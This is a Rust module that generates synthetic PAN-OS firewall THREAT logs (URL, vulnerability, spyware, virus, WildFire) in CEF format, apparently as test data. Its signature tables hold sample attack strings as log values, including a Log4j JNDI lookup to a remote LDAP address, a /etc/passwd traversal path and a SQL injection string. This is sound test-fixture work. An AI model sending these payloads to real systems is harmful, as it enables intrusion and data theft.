//! THREAT logs: URL filtering, vulnerability, spyware, virus and WildFire.

use time::OffsetDateTime;

use super::fields::{
    cef_time, earlier, hex_digest, uuid, write_device, Device, SERVICES, URL_CATEGORIES,
    USER_AGENTS,
};
use super::mix::LogKind;
use super::record::{syslog_severity, CefWriter, Record};
use super::rng::Rng;
use super::traffic::Session;

/// One threat signature: name with id (the Set A class id), PAN severity, threat category,
/// App-ID service, and `$misc` exactly as PAN-OS writes it (in literal double quotes).
#[derive(Clone, Copy)]
struct Signature {
    threat_id: &'static str,
    severity: u64,
    category: &'static str,
    service: (u64, &'static str, &'static str),
    misc: &'static str,
}

const VULNERABILITIES: [Signature; 5] = [
    Signature {
        threat_id: "Microsoft Windows SMB Remote Code Execution Vulnerability(41964)",
        severity: 5,
        category: "code-execution",
        service: (445, "ms-ds-smbv3", "tcp"),
        misc: "\"\"",
    },
    Signature {
        threat_id: "Apache Log4j Remote Code Execution Vulnerability(91991)",
        severity: 5,
        category: "code-execution",
        service: (8080, "web-browsing", "tcp"),
        misc: "\"api.example.com/login?user=${jndi:ldap://198.51.100.23:1389/a}&next=/\"",
    },
    Signature {
        threat_id: "HTTP Directory Traversal Request Attempt(30844)",
        severity: 3,
        category: "info-leak",
        service: (80, "web-browsing", "tcp"),
        misc: "\"www.example.org/cgi-bin/../../etc/passwd\"",
    },
    Signature {
        threat_id: "LDAP Authentication Via BIND Request Failed(31706)",
        severity: 1,
        category: "brute-force",
        service: (389, "ldap", "tcp"),
        misc: "\"\"",
    },
    Signature {
        threat_id: "HTTP SQL Injection Attempt(38195)",
        severity: 4,
        category: "sql-injection",
        service: (80, "web-browsing", "tcp"),
        misc: "\"shop.example.com/item.php?id=1' OR '1'='1&page=2\"",
    },
];

const SPYWARE: [Signature; 3] = [
    Signature {
        threat_id: "generic:www.virussign.com(327891564)",
        severity: 3,
        category: "dns-malware",
        service: (53, "dns", "udp"),
        misc: "\"www.virussign.com\"",
    },
    Signature {
        threat_id: "Cobalt Strike Beacon Command and Control Traffic Detection(86443)",
        severity: 4,
        category: "command-and-control",
        service: (443, "ssl", "tcp"),
        misc: "\"cdn.update-check.example.net/jquery-3.3.1.min.js\"",
    },
    Signature {
        threat_id: "ZeroAccess.Gen Command and Control Traffic(13235)",
        severity: 5,
        category: "botnet",
        service: (80, "web-browsing", "tcp"),
        misc: "\"\"",
    },
];

const VIRUSES: [Signature; 3] = [
    Signature {
        threat_id: "Virus/Win32.WGeneric.cxbhmf(452157632)",
        severity: 3,
        category: "virus",
        service: (25, "smtp", "tcp"),
        misc: "\"invoice_2024-03.zip\"",
    },
    Signature {
        threat_id: "Virus/Linux.WGeneric.abpfd(419149938)",
        severity: 4,
        category: "virus",
        service: (80, "web-browsing", "tcp"),
        misc: "\"update.sh\"",
    },
    Signature {
        threat_id: "Eicar File Detected(39040)",
        severity: 3,
        category: "virus",
        service: (443, "ssl", "tcp"),
        misc: "\"eicar.com.txt\"",
    },
];

/// URL log `$misc`: host and path with unescaped query strings (`=` inside the value).
const URLS: [&str; 6] = [
    "\"www.bing.com/search?q=palo+alto+cef&form=QBLH&sp=-1\"",
    "\"consent.cmp.oath.com/\"",
    "\"b.scorecardresearch.com/p?c1=2&c2=7241469&ns_ap_sv=2.1\"",
    "\"reports.example.com/ReportServer?OpType=SessionKeepAlive&ControlID=9f1c2a&RSProxy=http://localhost/reportserver\"",
    "\"login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b&response_type=code&scope=openid+profile\"",
    "\"cdn.example.net/assets/app.js?v=3.2.1\"",
];

// One piece: the PAN-OS CEF format string, one field per line, in the firewall's order.
pub(super) fn threat(kind: LogKind, device: &Device, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let received = earlier(now, rng, 2);
    let rt = cef_time(received);
    let direction = if rng.percent(85) {
        "client-to-server"
    } else {
        "server-to-client"
    };
    match kind {
        LogKind::Url => {
            let service = rng.pick(&SERVICES[..3]);
            let session = Session::new(rng, service);
            let action = rng.pick(&["alert", "alert", "alert", "block-url", "continue"]);
            let mut cef = CefWriter::new(device.version, "url", "THREAT", Some("1"));
            session.write(&mut cef, device, &rt, "0x403000");
            let category = rng.pick(&URL_CATEGORIES[1..]);
            cef.kv("act", action)
                .kv("request", rng.pick(&URLS))
                .kv("cs2Label", "URL Category")
                .kv("cs2", category)
                .kv("flexString2Label", "Direction")
                .kv("flexString2", direction)
                .kv("PanOSActionFlags", "0x0")
                .external_id()
                .kv(
                    "requestContext",
                    rng.pick(&["text/html", "application/json", "image/png", ""]),
                )
                .kv("cat", "(9999)")
                .kv("fileId", 0)
                .kv("requestMethod", rng.pick(&["get", "post", "connect"]))
                .kv("requestClientApplication", rng.pick(&USER_AGENTS))
                .kv(
                    "PanOSXForwarderfor",
                    if rng.percent(20) {
                        "\"172.30.138.196\""
                    } else {
                        ""
                    },
                )
                .kv(
                    "PanOSReferer",
                    rng.pick(&[
                        "\"https://www.google.com/url?sa=t&url=https://www.example.com/\"",
                        "\"\"",
                        "",
                    ]),
                );
            write_device(&mut cef, device);
            write_threat_tail(&mut cef, rng, "unknown");
            cef.kv("PanOSRuleUUID", uuid(rng))
                .kv(
                    "PanOSURLCatList",
                    format!("\" DT-Stores-Whitelist,{category},low-risk\""),
                )
                .kv("PanOSHTTP2Con", 0)
                .kv("PanDynamicUsrgrp", "");
            cef.finish(syslog_severity(1))
        }
        LogKind::Wildfire => {
            let (threat_id, file_type, misc) = rng.pick(&[
                ("Windows Executable (EXE)(52020)", "pe", "\"setup_x64.exe\""),
                (
                    "Adobe Portable Document Format (PDF)(52030)",
                    "pdf",
                    "\"Q3 report.pdf\"",
                ),
                (
                    "Microsoft Word 2007+ Document(52111)",
                    "ms-office",
                    "\"invoice.docx\"",
                ),
            ]);
            let malicious = rng.percent(30);
            let severity = if malicious { 4 } else { 1 };
            let mut cef = CefWriter::new(
                device.version,
                "wildfire",
                "THREAT",
                Some(if malicious { "4" } else { "1" }),
            );
            let service = rng.pick(&[SERVICES[0], SERVICES[2], SERVICES[10]]);
            let session = Session::new(rng, service);
            session.write(&mut cef, device, &rt, "0x403000");
            let email = session.app == "smtp";
            cef.kv("act", if malicious { "alert" } else { "allow" })
                .kv("request", misc)
                .kv("cs2Label", "URL Category")
                .kv("cs2", rng.pick(&URL_CATEGORIES))
                .kv("flexString2Label", "Direction")
                .kv("flexString2", direction)
                .kv("PanOSActionFlags", "0x0")
                .external_id()
                .kv("cat", threat_id)
                .kv(
                    "filePath",
                    rng.pick(&[
                        "wildfire.paloaltonetworks.com",
                        "eu.wildfire.paloaltonetworks.com",
                    ]),
                )
                .kv("fileId", 0)
                .kv("fileHash", hex_digest(rng))
                .kv("fileType", file_type)
                .kv("suid", if email { "billing@partner.example" } else { "" })
                .kv("msg", if email { "Invoice March - overdue" } else { "" })
                .kv(
                    "duid",
                    if email {
                        "jane.smith@corp.example.com"
                    } else {
                        ""
                    },
                )
                .kv("oldFileId", rng.between(100_000_000, 999_999_999));
            write_device(&mut cef, device);
            write_threat_tail(&mut cef, rng, if malicious { "malware" } else { "benign" });
            cef.kv("PanOSRuleUUID", uuid(rng));
            cef.finish(syslog_severity(severity))
        }
        _ => {
            let (signatures, subtype): (&[Signature], &str) = match kind {
                LogKind::Spyware => (&SPYWARE, "spyware"),
                LogKind::Virus => (&VIRUSES, "virus"),
                _ => (&VULNERABILITIES, "vulnerability"),
            };
            let signature = rng.pick(signatures);
            let severity = signature.severity.to_string();
            let session = Session::new(rng, signature.service);
            let action = match signature.severity {
                5 | 4 => rng.pick(&["reset-both", "drop", "block-ip"]),
                _ if subtype == "spyware" => "sinkhole",
                _ => "alert",
            };
            let mut cef = CefWriter::new(
                device.version,
                signature.threat_id,
                "THREAT",
                Some(severity.as_str()),
            );
            session.write(&mut cef, device, &rt, "0x80402000");
            cef.kv("act", action)
                .kv("request", signature.misc)
                .kv("cs2Label", "URL Category")
                .kv("cs2", "any")
                .kv("flexString2Label", "Direction")
                .kv("flexString2", direction)
                .kv("PanOSActionFlags", "0x0")
                .external_id()
                .kv("cat", subtype)
                .kv("fileId", rng.below(2) * rng.between(1_000, 9_999_999));
            write_device(&mut cef, device);
            write_threat_tail(&mut cef, rng, signature.category);
            cef.kv("PanOSHTTPHeader", "")
                .kv("PanOSURLCatList", "")
                .kv("PanOSRuleUUID", uuid(rng))
                .kv("PanOSHTTP2Con", 0)
                .kv("PanDynamicUsrgrp", "");
            cef.finish(syslog_severity(signature.severity))
        }
    }
}

/// From `PanOSSrcUUID` to `PanOSPPID`: the threat templates' common tail.
fn write_threat_tail(cef: &mut CefWriter, rng: &mut Rng, threat_category: &str) {
    cef.kv("PanOSSrcUUID", "")
        .kv("PanOSDstUUID", "")
        .kv("PanOSTunnelID", 0)
        .kv("PanOSMonitorTag", "")
        .kv("PanOSParentSessionID", 0)
        .kv("PanOSParentStartTime", "")
        .kv("PanOSTunnelType", "N/A")
        .kv("PanOSThreatCategory", threat_category)
        .kv(
            "PanOSContentVer",
            format!(
                "AppThreat-{}-{}",
                rng.between(8600, 8800),
                rng.between(1000, 9000)
            ),
        )
        .kv("PanOSAssocID", 0)
        .kv("PanOSPPID", 4294967295u64);
}
